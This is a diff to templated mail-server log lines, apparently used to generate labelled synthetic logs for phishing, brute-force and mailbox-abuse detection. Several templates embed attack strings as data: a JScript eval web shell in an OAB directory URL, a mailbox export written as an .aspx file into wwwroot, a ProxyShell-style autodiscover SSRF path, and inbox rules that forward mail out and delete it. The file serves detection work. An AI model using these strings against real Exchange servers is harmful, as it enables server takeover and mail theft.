@@ -16,14 +16,14 @@ PH@T1566.001 rspamd[{n}]>> <{hex}>; proxy; rspamd_task_write_log: id: <{word}@{e
 PH rspamd[{n}]>> <{hex}>; task; id: <{word}@{ext}>, ip: {wan}, (default: F (no action): [9.{n}/15.00] [PHISHED_OPENPHISH(7.00){{ext};},FROM_NAME_SPOOF_OWN_CEO(3.00){},DMARC_POLICY_REJECT(2.00){{domain} : none;}]) rcpt {mail}
 PH@T1566.001 MailScanner[{n}]>> Infected message {queue}.{hex} came from {wan}; {mal} in {file}.doc, <<delivered with warning removed|quarantined>>
 BF# MSExchangeFrontEndTransport: Event 1035 Inbound authentication failed with error LogonDenied for Receive connector Default Frontend. The authentication mechanism is Login. The source IP address of the client who tried to authenticate to Microsoft Exchange is [{wan}].
-PS# IMAP4: {iso},{hex},{n},{lan}:993,{wan}:{port},{word}@{domain},{n},LOGIN,"NO AuthFailed:LogonDenied"
+PS# IMAP4: {iso},{hex},{n},{lan}:993,{any}:{port},{word}@{domain},{n},LOGIN,"NO AuthFailed:LogonDenied"
 MB@T1114.003 MSExchange CmdletLogs: New-InboxRule -Mailbox {mail} -Name "." -ForwardTo {out} -DeleteMessage True, user {mail}, OWA from {wan}
 MB@T1098.002 MSExchange CmdletLogs: Add-MailboxPermission -Identity {mail} -User {word} -AccessRights FullAccess, executed by {user} from {wan}
 MB@T1114.002 MSExchange CmdletLogs: New-MailboxExportRequest -Mailbox {mail} -FilePath \\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\{word}.aspx
 WS MSExchange CmdletLogs: Set-OabVirtualDirectory -ExternalUrl 'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["{word}"],"unsafe");}</script>'
 SR OWA: POST /autodiscover/autodiscover.json?@{ext}/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@{ext} from {wan} 200
 BF# dovecot>> auth: passwd-file({mail},{wan}): Password mismatch
-BF# saslauthd[{n}]>> do_auth : auth failure: [user={word}] [service=smtp] [realm={domain}] [mech=pam] [reason=PAM auth error] ({wan})
+BF# saslauthd[{n}]>> do_auth : auth failure: [user={word}] [service=smtp] [realm={domain}] [mech=pam] [reason=PAM auth error] ({any})
 MB@T1534 spamd: outbound: account {mail} sent {big} messages to {big} recipients within {few} minutes from {wan}, queue frozen
 """, r"""
 BN mimecast: datetime={iso}|aCode={word}|acc=C{id}|SpamScore={n}|Sender={out}|Recipient={mail}|Subject=Win a prize|Act=Rej|RejType=Spam Signature
@@ -56,7 +56,7 @@ MP. MSExchangeFrontEndTransport: Event 1035 Inbound authentication failed with e
 AD MSExchange CmdletLogs: <<Set-Mailbox -Identity {mail} -ProhibitSendQuota 40GB|New-DistributionGroup -Name {word}|Set-MailboxAutoReplyConfiguration -Identity {mail} -AutoReplyState Enabled|Add-MailboxPermission -Identity info@{domain} -User {user} -AccessRights FullAccess>>, executed by {adm} from {lan}
 AE MSExchange CmdletLogs: New-InboxRule -Mailbox {mail} -Name "Newsletter" -MoveToFolder Newsletter, user {mail}, Outlook from {lan}
 LO dovecot>> imap-login: Login: user=<{mail}>, method=PLAIN, rip={any}, lip={lan}, mpid={big}, TLS
-MP. dovecot>> auth: passwd-file({mail},{lan}): Password mismatch
+MP. dovecot>> auth: passwd-file({mail},{any}): Password mismatch
 BN MSExchangeTransport agent log: Sender Id Agent,OnEndOfHeaders,RejectMessage,550 5.7.1 {out} Missing PRA / DMARC fail {wan}
 AE spamd: outbound: newsletter of {mail} sent to {big} recipients by campaign tool, rate limited to {n} a minute
 """)
